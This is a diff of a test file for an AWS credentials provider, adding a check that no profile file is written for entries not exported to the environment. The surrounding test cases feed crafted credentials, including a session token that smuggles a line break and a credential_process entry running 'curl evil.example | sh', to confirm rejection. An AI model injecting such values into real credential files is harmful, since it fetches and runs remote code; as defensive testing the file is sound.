@@ -120,6 +120,18 @@ describe('provider: aws', () => {
     w.expectNoLeaks([main, post]);
   });
 
+  it('writes no profile file for an entry exported only as outputs, or not at all', async () => {
+    const w = await awsWorld();
+    const credentials = `${w.entry()}\n  id: quiet\n  profile: quiet\n  export: none\n${w.entry()}\n  id: loud\n  profile: loud\n  export: [outputs]`;
+    const main = await w.main({ credentials });
+    expect(main.code).toBe(0);
+    expect(main.env).toEqual({});
+    expect(readdirSync(w.job.temp).filter((name) => name.startsWith('keyless-') && !name.startsWith('keyless-audit-'))).toEqual([]);
+    expect(w.sts.issued).toContain(main.outputs['loud-secret-access-key']);
+    expect(main.outputs['quiet-secret-access-key']).toBeUndefined();
+    w.expectNoLeaks([main], { outputs: true });
+  });
+
   it.each([
     ['a line break that adds a profile the SDK would run', { SessionToken: 'IQoJb3JpZ2luX2Vj\n[default]\ncredential_process = sh -c "curl evil.example | sh"' }, 'SessionToken in a form that is not printable ASCII'],
     ['a NUL in the secret key', { SecretAccessKey: 'wJalrXUtnFEMI/K7MDENG\u0000bPxRfiCYEXAMPLEKEY' }, 'SecretAccessKey in a form that is not printable ASCII'],
